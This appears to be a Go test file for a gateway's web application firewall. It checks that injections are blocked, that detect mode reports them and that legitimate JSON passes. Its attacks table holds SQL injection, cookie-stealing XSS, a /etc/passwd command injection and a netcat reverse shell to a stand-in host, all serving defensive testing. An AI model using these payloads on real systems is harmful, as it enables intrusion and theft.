package gateway_test

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/rampart-gw/rampart/internal/config"
	"github.com/rampart-gw/rampart/internal/gateway"
	gt "github.com/rampart-gw/rampart/internal/gatewaytest"
)

// wafRoutes is one route with the waf policy "crs" in front of the upstream.
const wafRoutes = "  - { name: api, path: \"/{rest...}\", methods: [GET, POST, PUT, PATCH, DELETE], upstream: app, auth: none, waf: crs }\n"

func startWAF(t *testing.T, policy string) (*gt.Gateway, *gt.Upstream) {
	t.Helper()
	up := gt.NewUpstream(t, nil)
	g := gt.Start(t, gt.Config(up.URL, "waf:\n  crs: "+policy+"\n", wafRoutes), nil)
	return g, up
}

func sendJSON(t *testing.T, g *gt.Gateway, method, path, body string) (*http.Response, string) {
	t.Helper()
	req, err := http.NewRequest(method, g.URL+path, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("User-Agent", "rampart-test/1.0")
	req.Header.Set("Accept", "application/json")
	if body != "" {
		req.Header.Set("Content-Type", "application/json")
	}
	return g.Do(t, req)
}

// attacks are injections a schema lets through as well-typed strings.
var attacks = []struct{ name, method, path, body string }{
	{"sqli in a JSON field", "POST", "/users", `{"name": "x' UNION SELECT password FROM users--"}`},
	{"xss in a JSON field", "POST", "/users", `{"bio": "<script>alert(document.cookie)</script>"}`},
	{"command injection in a JSON field", "POST", "/hosts", `{"host": "example.com; cat /etc/passwd"}`},
	{"sqli in the query", "GET", "/users?name=" + url.QueryEscape("x' UNION SELECT password FROM users--"), ""},
	{"xss in the query", "GET", "/search?q=" + url.QueryEscape("<img src=x onerror=alert(1)>"), ""},
	{"command injection in the query", "GET", "/ping?host=" + url.QueryEscape("127.0.0.1 | nc -e /bin/sh evil.test 4444"), ""},
}

func TestWAFBlocksInjections(t *testing.T) {
	g, up := startWAF(t, "{ paranoia_level: 1 }")
	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			before, logged := up.Count(), len(g.Logs.String())
			resp, body := sendJSON(t, g, a.method, a.path, a.body)
			p := gt.CheckProblem(t, resp, body, http.StatusForbidden, "request-blocked")
			if up.Count() != before {
				t.Fatal("the upstream saw a blocked request")
			}
			if strings.Contains(p.Detail, "SELECT") || strings.Contains(p.Detail, "942") {
				t.Errorf("the detail says how it was caught: %q", p.Detail)
			}
			ev := auditEvent(t, g.Logs.String()[logged:], "rejected")
			if ev["reason"] != "request-blocked" || !strings.Contains(fmt.Sprint(ev["error"]), "rules ") || !strings.Contains(fmt.Sprint(ev["error"]), "score ") {
				t.Errorf("audit event lacks the rules and score: %v", ev)
			}
			if e := fmt.Sprint(ev["error"]); strings.Contains(e, "password FROM") || strings.Contains(e, "/etc/passwd") || strings.Contains(e, "document.cookie") {
				t.Errorf("audit event carries the payload: %s", e)
			}
		})
	}
}

func TestWAFDetectModeForwardsAndReports(t *testing.T) {
	g, up := startWAF(t, "{ mode: detect }")
	a := attacks[0]
	before, logged := up.Count(), len(g.Logs.String())
	resp, body := sendJSON(t, g, a.method, a.path, a.body)
	if resp.StatusCode != 200 {
		t.Fatalf("detect mode refused: %d %s", resp.StatusCode, body)
	}
	if up.Count() != before+1 || up.Seen()[before].Body != a.body {
		t.Fatal("the upstream did not get the request and its body intact")
	}
	ev := auditEvent(t, g.Logs.String()[logged:], "waf_detected")
	if ev["would_block"] != true || ev["waf"] != "crs" || ev["mode"] != "detect" {
		t.Errorf("event = %v", ev)
	}
	vars, _ := ev["variables"].([]any)
	if len(vars) == 0 || !strings.Contains(fmt.Sprint(vars), "ARGS:json.name") {
		t.Errorf("event does not name the matched field: %v", ev)
	}
	// The decision is counted before the request is forwarded, so the
	// counter is there once the response is.
	req, _ := http.NewRequest("GET", g.AdminURL+"/metrics", nil)
	req.Header.Set("Authorization", "Bearer "+g.AdminToken)
	_, metrics := g.Do(t, req)
	for _, want := range []string{`rampart_waf_decisions_total{decision="detect",mode="detect",policy="crs",side="request"} 1`, `rampart_waf_matches_total{policy="crs",rule="942100"} 1`} {
		if !strings.Contains(metrics, want) {
			t.Errorf("metrics lack %s", want)
		}
	}
}

// legitimate are realistic JSON requests that must pass PL1 with the
// default exclusions.
var legitimate = []string{
	`{"name": "Siobhán O'Brien", "email": "siobhan.obrien@example.ie", "phone": "+353 1 234 5678"}`,
	`{"name": "D'Angelo", "company": "Johnson & Johnson", "title": "VP, R&D"}`,
	`{"description": "# Release notes\n\n* Fixed the **login** bug\n* See [the docs](https://docs.example.com/guide?lang=en&v=2)\n\n> Quote: it's fine"}`,
	`{"description": "Please select the best option from the list, then update your profile where needed."}`,
	`{"comment": "I'd like to drop by and delete my old account; can you help? Thanks -- Anne"}`,
	`{"description": "Call it like this: client.get(url, params={'q': 'shoes'}) and check resp.status == 200"}`,
	`{"website": "https://www.example.com/path/to/page?utm_source=newsletter&utm_medium=email#section-2"}`,
	`{"address": {"street": "12 Rue de l'Église", "city": "Saint-Étienne", "zip": "42000"}, "notes": "Ring twice; door code 4521"}`,
	`{"query": "price < 100 and rating >= 4", "sort": "-created_at", "page": 2}`,
	`{"message": "Meeting at 10:30 (room B). Bring: laptop, charger & notes. Cost: $25/person, 50% off for students!"}`,
	`{"tags": ["sql", "select", "union", "where"], "title": "Learning SQL: from SELECT to JOIN"}`,
	`{"password": "c0rrect-h0rse-Battery-staple!", "username": "jdoe"}`,
	`{"bio": "Engineer @ ACME. Loves C++, Go & Rust. Opinions are mine :)"}`,
	`{"items": [{"sku": "AB-123", "qty": 2, "price": 19.99}, {"sku": "CD-456", "qty": 1, "price": 5}], "currency": "EUR"}`,
	`{"uuid": "3fa85f64-5717-4562-b3fc-2c963f66afa6", "created_at": "2024-05-01T12:34:56Z", "active": true, "score": null}`,
}

func TestWAFLegitimateJSONPassesPL1(t *testing.T) {
	g, up := startWAF(t, "{ paranoia_level: 1 }")
	for i, body := range legitimate {
		before := up.Count()
		resp, answer := sendJSON(t, g, "POST", "/things", body)
		if resp.StatusCode != 200 || up.Count() != before+1 {
			t.Errorf("legitimate request %d refused: %d %s\n%s", i, resp.StatusCode, answer, body)
		}
	}
	for _, path := range []string{"/users/42", "/search?q=shoes&size=42&color=dark+blue", "/orders?since=2024-01-01T00:00:00Z&limit=50",
		"/docs/getting-started.html", "/users?email=" + url.QueryEscape("o'brien@example.com")} {
		if resp, answer := sendJSON(t, g, "GET", path, ""); resp.StatusCode != 200 {
			t.Errorf("GET %s refused: %d %s", path, resp.StatusCode, answer)
		}
	}
}

func TestWAFExcludedTargetTakesHTML(t *testing.T) {
	g, up := startWAF(t, `{ exclude_targets: [{ rule: attack-xss, target: "ARGS:json.html" }] }`)
	html := `{"title": "About us", "html": "<p>Welcome to <b>ACME</b>. <a href=\"https://example.com\" onclick=\"track()\">More</a><script src=\"/app.js\"></script></p>"}`
	before := up.Count()
	if resp, body := sendJSON(t, g, "POST", "/pages", html); resp.StatusCode != 200 || up.Count() != before+1 {
		t.Fatalf("HTML in the excluded field was refused: %d %s", resp.StatusCode, body)
	}
	resp, body := sendJSON(t, g, "POST", "/pages", `{"title": "<script>alert(1)</script>"}`)
	gt.CheckProblem(t, resp, body, http.StatusForbidden, "request-blocked")
}

func TestWAFConfigErrors(t *testing.T) {
	up := gt.NewUpstream(t, nil)
	for _, tc := range []struct{ policy, want string }{
		{"{ exclude_rules: [\"942100\", \"4242\"] }", `exclude_rules`},
		{"{ exclude_tags: [no-such-tag] }", `tags no rule`},
		{"{ paranoia_level: 5 }", `paranoia_level`},
	} {
		err := buildErr(t, gt.Config(up.URL, "waf:\n  crs: "+tc.policy+"\n", wafRoutes))
		if err == nil || !strings.Contains(err.Error(), tc.want) || !strings.Contains(err.Error(), "test.yaml:") {
			t.Errorf("%s: err = %v, want %q at file:line:col", tc.policy, err, tc.want)
		}
	}
}

func TestWAFReloadReusesUnchangedPolicy(t *testing.T) {
	up := gt.NewUpstream(t, nil)
	cfg := func(pl int, limit string) string {
		return gt.Config(up.URL, fmt.Sprintf("waf:\n  crs: { paranoia_level: %d }\n", pl), wafRoutes) +
			fmt.Sprintf("  - { name: other, path: /other-%s, methods: [GET], upstream: app, auth: none }\n", limit)
	}
	g := gt.Start(t, cfg(1, "a"), nil)
	compiled := func() int { return strings.Count(g.Logs.String(), `"msg":"waf policy compiled"`) }
	if compiled() != 1 {
		t.Fatalf("compiled %d times at start, want 1", compiled())
	}
	if err := g.ReloadYAML(t, cfg(1, "b")); err != nil {
		t.Fatal(err)
	}
	if compiled() != 1 {
		t.Errorf("an unchanged policy was compiled again on reload (%d)", compiled())
	}
	if err := g.ReloadYAML(t, cfg(2, "b")); err != nil {
		t.Fatal(err)
	}
	if compiled() != 2 {
		t.Errorf("a changed policy was not compiled on reload (%d)", compiled())
	}
	resp, body := sendJSON(t, g, attacks[0].method, attacks[0].path, attacks[0].body)
	gt.CheckProblem(t, resp, body, http.StatusForbidden, "request-blocked")
}

// doSlow is gt.Gateway.Do with a minute to answer: a few-KiB JSON body
// costs the CRS tens of milliseconds of CPU, many times that under -race
// on a busy machine (see docs/waf.md, Costs).
func doSlow(t *testing.T, req *http.Request) (*http.Response, string) {
	t.Helper()
	c := gt.Client()
	c.Timeout = time.Minute
	resp, err := c.Do(req)
	if err != nil {
		t.Fatalf("%s %s: %v", req.Method, req.URL, err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp, string(b)
}

// buildErr is the error of loading and compiling text (nil if it builds).
func buildErr(t *testing.T, text string) error {
	t.Helper()
	cfg, err := config.Parse("test.yaml", []byte(text), func(k string) (string, bool) { return gt.AdminToken, k == "ADMIN_TOKEN" })
	if err != nil {
		return err
	}
	g, err := gateway.New(cfg, gateway.Deps{Offline: true})
	if err == nil {
		g.Close()
	}
	return err
}

// auditEvent finds the last JSON log line of logs whose event is ev.
func auditEvent(t *testing.T, logs, ev string) map[string]any {
	t.Helper()
	var found map[string]any
	for _, line := range strings.Split(logs, "\n") {
		var m map[string]any
		if json.Unmarshal([]byte(line), &m) == nil && m["event"] == ev {
			found = m
		}
	}
	if found == nil {
		t.Fatalf("no %s event in the logs:\n%s", ev, logs)
	}
	return found
}

// sharedDir is a folder of ../shared (the workplace's shared data, beside
// the repository; never copied into it). Absent, the test is skipped —
// loudly — except in CI (CI=true or RAMPART_REQUIRE_SERVICES=1), where it
// fails.
func sharedDir(t testing.TB, name string) string {
	t.Helper()
	for _, d := range []string{filepath.Join("..", "..", "..", "shared", name), filepath.Join("/work/shared", name)} {
		if st, err := os.Stat(d); err == nil && st.IsDir() {
			return d
		}
	}
	msg := fmt.Sprintf("../shared/%s is absent", name)
	if os.Getenv("CI") == "true" || os.Getenv("RAMPART_REQUIRE_SERVICES") == "1" {
		t.Fatal(msg + " (CI: absence is a failure)")
	}
	fmt.Fprintln(os.Stderr, "SKIP:", t.Name()+":", msg)
	t.Skip(msg)
	return ""
}

// TestWAFCorpusLegitimateRequestsPass sends the legitimate request cases of
// the OpenAPI corpus (real public APIs' own examples) through a PL1 policy
// with the default exclusions: none may be refused.
func TestWAFCorpusLegitimateRequestsPass(t *testing.T) {
	dir := sharedDir(t, "openapi-corpus")
	files, _ := filepath.Glob(filepath.Join(dir, "*", "cases.json"))
	if len(files) == 0 {
		t.Fatalf("no cases.json under %s", dir)
	}
	g, up := startWAF(t, "{ paranoia_level: 1 }")
	sent := 0
	for _, f := range files {
		b, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		var doc struct {
			Cases []struct {
				ID, Kind, Method, Path string
				Query                  [][2]string
				Headers                map[string]string
				ContentType            string          `json:"content_type"`
				Body                   json.RawMessage `json:"body"`
				RawBody                *string         `json:"raw_body"`
			}
		}
		if err := json.Unmarshal(b, &doc); err != nil {
			t.Fatalf("%s: %v", f, err)
		}
		for _, c := range doc.Cases {
			if c.Kind != "legit" {
				continue
			}
			q := url.Values{}
			for _, kv := range c.Query {
				q.Add(kv[0], kv[1])
			}
			target := g.URL + c.Path
			if len(q) > 0 {
				target += "?" + q.Encode()
			}
			var body string
			switch {
			case c.RawBody != nil:
				body = *c.RawBody
			case len(c.Body) > 0 && c.ContentType != "" && !strings.Contains(c.ContentType, "json"):
				_ = json.Unmarshal(c.Body, &body) // a form body is a string
			case len(c.Body) > 0:
				body = string(c.Body)
			}
			req, err := http.NewRequest(c.Method, target, strings.NewReader(body))
			if err != nil {
				t.Fatal(err)
			}
			req.Header.Set("User-Agent", "rampart-corpus/1.0")
			req.Header.Set("Accept", "application/json")
			for k, v := range c.Headers {
				req.Header.Set(k, v)
			}
			if c.ContentType != "" {
				req.Header.Set("Content-Type", c.ContentType)
			}
			before := up.Count()
			resp, answer := doSlow(t, req)
			sent++
			if resp.StatusCode == http.StatusForbidden || up.Count() != before+1 {
				t.Errorf("%s %s: %s %s refused: %d %s", filepath.Base(filepath.Dir(f)), c.ID, c.Method, c.Path, resp.StatusCode, answer)
			}
		}
	}
	if sent < 50 {
		t.Fatalf("only %d legitimate cases sent; the corpus changed?", sent)
	}
}
